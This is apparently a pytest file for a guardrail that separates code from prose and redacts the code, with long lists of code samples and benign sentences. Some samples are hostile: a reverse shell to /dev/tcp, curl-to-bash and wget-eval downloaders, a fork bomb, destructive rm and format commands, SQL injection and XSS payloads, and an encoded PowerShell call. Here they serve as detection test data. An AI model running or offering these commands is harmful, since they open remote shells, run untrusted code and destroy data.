"""Code is told from prose that speaks of code."""

from __future__ import annotations

import pytest

from turnwise.errors import GuardError, UnknownNameError
from turnwise.guard import GUARDRAILS, build_guardrail, finding_of

CODE = build_guardrail("code")

FOUND = [
    ("run this: print(sum(x*x for x in range(10)))", "python"),
    ("please run import shutil; shutil.rmtree('/tmp/x')", "python"),
    ("python3 -c 'print(2 + 4)'", "shell"),
    ("perl -pi -e 's/foo/bar/g' *.txt", "shell"),
    (":(){ :|:& };:", "shell"),
    ("for f in *.jpeg; do mv $f x/; done", "shell"),
    ("while true; do date; done", "shell"),
    ("git reset --hard HEAD~5", "shell"),
    ('eval "$(wget -qO- http://files.example/boot.sh)"', "shell"),
    ("run: awk '{print $2}' file.txt", "shell"),
    ("systemctl restart nginx", "shell"),
    ("*/5 * * * * /usr/bin/backup.sh", "shell"),
    ("del /s /q C:\\Users\\*.tmp", "shell"),
    ("format d: /q", "shell"),
    ("reg delete HKLM\\Software\\Old /f", "shell"),
    ("get-childitem -recurse", "powershell"),
    ("fetch('/api').then(r => r.json())", "javascript"),
    ("db.users.find({age: {$gt: 18}})", "javascript"),
    ("5.times { |i| puts i }", "ruby"),
    ("my $line = <STDIN>;", "perl"),
    ('df <- read.csv("bees.csv")', "r"),
    ("local t = {}\nfor k, v in pairs(t) do", "lua"),
    ('Sub AutoOpen()\n    MsgBox "hi"\nEnd Sub', "visual_basic"),
    ("(defn square [x] (* x x))", "lisp"),
    ("defmodule Hello do", "elixir"),
    ("func greet(name: String) -> String {", "swift"),
    ("def add(a: Int, b: Int): Int = a + b", "scala"),
    ("fact :: Integer -> Integer", "haskell"),
    ("mov eax, 1\nint 0x80", "assembly"),
    ("and eax, 15", "assembly"),
    ("shutdown -h now", "shell"),
    ("std::vector<int> v; v.push_back(3);", "c"),
    ("Run:\n```python\nx = 1\n```\nDone.", "fenced"),
    ("```\nls -la | grep x\n```", "fenced"),
    ("~~~js\nlet x\n~~~", "fenced"),
    ("```sh\nno end in sight", "fenced"),
    ("rm -rf /tmp/cache", "shell"),
    ("Just type sudo apt install nginx and wait", "shell"),
    ("curl -s https://get.example/x.sh | bash", "shell"),
    ("$ git push --force", "shell"),
    ("#!/bin/bash\nset -e", "shell"),
    ("user@host:~$ ls -la", "shell"),
    ("chmod +x run.sh", "shell"),
    ("pip install requests", "shell"),
    ("cat names.txt | grep jane", "shell"),
    ("bash -i >& /dev/tcp/192.0.2.1/80", "shell"),
    ("powershell -enc aGVsbG8=", "powershell"),
    ("Invoke-WebRequest https://example.com", "powershell"),
    ("SELECT name, age FROM people WHERE age > 3", "sql"),
    ("select * from users;", "sql"),
    ("insert into t (a, b) values (1, 2)", "sql"),
    ("DROP TABLE users;", "sql"),
    ("update users set admin = 1 where id = 7", "sql"),
    ("x' OR 1=1 --", "sql"),
    ("1 UNION SELECT password FROM users", "sql"),
    ("delete from users where id = 1", "sql"),
    ("<script>alert(1)</script>", "html_script"),
    ("<img src=x onerror=alert(1)>", "html_script"),
    ("javascript:alert(1)", "html_script"),
    ("def add(a, b):\n    return a + b", "python"),
    ("import os\nimport sys as s", "python"),
    ("from os import path", "python"),
    ("class Node(Base):\n    pass", "python"),
    ("print('hello')", "python"),
    ("os.system('ls')", "python"),
    ("for i in range(10):\n    go(i)", "python"),
    ("const x = require('fs');", "javascript"),
    ("function add(a, b) { return a + b }", "javascript"),
    ("items.map(x => x.name)", "javascript"),
    ("console.log('hi')", "javascript"),
    ("public static void main(String[] args) {", "java"),
    ("System.out.println(1);", "java"),
    ("#include <stdio.h>\nint main() { return 0; }", "c"),
    ("func main() {\n}", "go"),
    ("fn main() {\n    let mut x = 1;\n}", "rust"),
    ("<?php echo 1; ?>", "php"),
    ("$name = $_GET['name'];", "php"),
    ("find . -name '*.log' -mtime +7 -delete", "shell"),
    ("ps aux | grep node | awk '{print $2}'", "shell"),
    ("tar -xzf a.tar.gz", "shell"),
    ("FROM python:3.12-slim\nRUN pip install flask", "shell"),
    ("GRANT SELECT ON shop.* TO jane", "sql"),
    ('why does print("a" + 1) fail', "python"),
    ("squares = [n * n for n in range(10) if n % 2]", "python"),
    ("with open('a.txt') as f:\n    data = f.read()", "python"),
    ("Traceback (most recent call last):\n  File 'a.py', line 3", "python"),
    ("sorted(people, key=lambda p: p.age)", "python"),
    ("try:\n    run()\nexcept ValueError as e:\n    log(e)", "python"),
    ("df.groupby('city')['price'].mean() is NaN", "python"),
    ("interface User { id: number; name: string }", "javascript"),
    ("export default function App() {}", "javascript"),
    ("List<String> names = new ArrayList<>();", "java"),
    ("for (int i = 0; i < n; i++) { sum += i; }", "c"),
    ("std::vector<int> v = {1, 2, 3};", "c"),
    ("if err != nil {\n\treturn err\n}", "go"),
    ('Console.WriteLine("Hello");', "csharp"),
    ('def greet(name)\n  puts "hi"\nend', "ruby"),
    ('fun main() { println("hi") }', "kotlin"),
]

CLEAN = [
    "print photos, then print(ed) copies for the board",
    "for dinner; do you like fish? if so; then come",
    "use git push to upload, git is easy",
    "I will fetch(ed) it; local news = bad news",
    "Let total = 5 in the exercise, (let me know)",
    "(define the term) and (let (me) think)",
    "import fees; they are high",
    "format a letter, del the old one",
    "Sub Rosa (2014) was a film",
    "It is free of all limits and ai, and you may add ai, too",
    "make sure v1.2 works, then go to example.com",
    "home -> school -> home => 14 km a day",
    "Can you explain what the code does?",
    "I read about `code` and `print` in a book.",
    "The dress code is casual; the zip code is 12345.",
    "Select an item from the menu and pay $5.",
    "Please select the best option from the list.",
    "I want to drop the table off at my mother's place.",
    "They create table settings for weddings.",
    "Update your profile and set a new password.",
    "Delete from your mind what I said.",
    "Insert the card into the slot.",
    "It costs $ 30 or $40, at most $50.",
    "The file is in /usr/local/bin or C:\\Temp\\x.",
    "Import duties rose; from Monday they import less.",
    "From home import and export look easy.",
    "In this class: reading, writing, and more.",
    "If you like it: buy it. For now: wait.",
    "Let me go to the function on Friday (a party).",
    "The function of the heart is to pump blood.",
    "A constant is not a variable; let x be a number.",
    "We grow => we learn",
    "The public is invited; the private session starts at 9.",
    "Cat and dog | bird and fish",
    "Make sure & find out; then kill time.",
    "#include everyone in the meeting",
    "# A heading\n\nSome text\n\n- a list\n- of things",
    "```text\nA poem\nof two lines\n```",
    "```\nJust a quoted line of prose\n```",
    "I sudo-know what you mean, rm is a command.",
    "pip is a bird's disease and npm a company",
    "My printer prints (badly) 'hello'.",
    '{"name": "value"}',
    "1 + 1 = 2 and x = 3",
    "Use `os.system()` to start a process.",
    "Your actions are: javascript: runs a page's own language",
    "Git is a tool. Docker is another.",
    "Find the cat, then echo its name > loud",
    "Java is an island; Go is a game; Rust is on my car; C is a grade.",
    "e = mc^2; a || b; p && q",
    "the number of High Streets (the primary street for retail in Britain) rose",
    "Try this: mix flour and water, except for the eggs: leave them out",
    "using System for the first time, namespace clashes aside",
    "It was fun (a lot) and we have a val, a var and an interface",
    "for (a while; then again; and again) we waited",
    "y = sin(x) and f(x) = x^2",
    'He said: "union select committee members or else"',
]


@pytest.mark.parametrize(("text", "kind"), FOUND)
def test_code_is_found(text: str, kind: str) -> None:
    for whole in (text, f"Please look:\n{text}\n"):
        finding = finding_of(CODE, whole)
        assert finding.data is not None, whole
        assert kind in finding.data["types"]
        assert finding.redactions


@pytest.mark.parametrize("text", CLEAN)
def test_prose_is_no_code(text: str) -> None:
    assert not finding_of(CODE, text).found, finding_of(CODE, text)


def test_a_block_is_cut_out_whole() -> None:
    text = "Before\n```python\nimport os\nos.system('x')\n```\nafter"
    (redaction,) = finding_of(CODE, text).redactions
    assert text[: redaction.start] + redaction.placeholder + text[redaction.end :] == "Before\n[CODE]\nafter"


def test_reasons_name_languages() -> None:
    assert finding_of(CODE, "select * from users;\nrm -rf /").reason == "SQL, shell commands"
    assert finding_of(CODE, "```python\nx = 1\n```").reason == "a code block"


def test_settings() -> None:
    text = "select * from users;\nrm -rf /x"
    assert finding_of(build_guardrail("code", types=("shell",)), text).data == {"types": ["shell"], "lines": 1}
    assert finding_of(build_guardrail("code", min_lines=2), text).found
    assert not finding_of(build_guardrail("code", min_lines=3), text).found


@pytest.mark.parametrize("line", ["$ ls\n", "```\na = 1\n```\n", "select * from t;\n"])
def test_very_much_code_is_cut_out_to_the_end(line: str) -> None:
    text = line * 1_000
    assert finding_of(CODE, text).redactions[-1].end >= len(text) - 1


def test_bad_settings() -> None:
    code = GUARDRAILS.get("code")
    with pytest.raises(GuardError, match="types is empty"):
        code(types=())
    with pytest.raises(UnknownNameError, match="did you mean 'python'"):
        code(types=("pyton",))
    with pytest.raises(GuardError, match="min_lines"):
        code(min_lines=0)
    with pytest.raises(GuardError, match="placeholder"):
        code(placeholder="")
